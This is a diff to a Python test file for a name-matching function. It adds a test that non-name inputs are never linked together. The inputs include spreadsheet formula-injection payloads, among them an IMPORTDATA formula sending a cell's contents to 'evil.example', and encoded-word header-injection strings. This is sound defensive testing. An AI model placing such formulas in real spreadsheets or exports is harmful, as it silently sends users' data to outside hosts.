@@ -242,3 +242,21 @@ def test_a_name_drawn_like_another_is_held() -> None:
 
 def test_unlike_names_are_left_alone() -> None:
     assert held(claim(1, "a@one.example", "Institut Escola del Treball"), claim(2, BOX, "Institut de Logística")) == {}
+
+
+@pytest.mark.parametrize(
+    ("one", "other"),
+    [
+        ("=1+1", "a =1+1"),
+        ('=IMPORTHTML("https://evil.example","table",1)', '=IMPORTDATA("https://evil.example/"&B2)'),
+        ("=?utf-8?q?evil=40x?=", "=?utf-8?q?_=?=: Acme=0A"),
+    ],
+    ids=["no letters", "web addresses", "encoded words"],
+)
+def test_what_is_no_name_is_nobodys(one: str, other: str) -> None:
+    """However alike linkage finds two such texts; but whatever stands around a real name, it is that name."""
+    first = claim(1, "a@one.example", one, organisations=frozenset({"O-1"}), readings=frozenset({"evil"}))
+    second = claim(2, "b@two.example", other, organisations=frozenset({"O-1"}), readings=frozenset({"evil"}))
+    assert held(first, second) == {}
+    dressed = claim(2, BOX, "=Borås Stad https://x.example", organisations=frozenset({"O-1"}))
+    assert set(held(claim(organisations=frozenset({"O-1"})), dressed)) == {"E-2"}
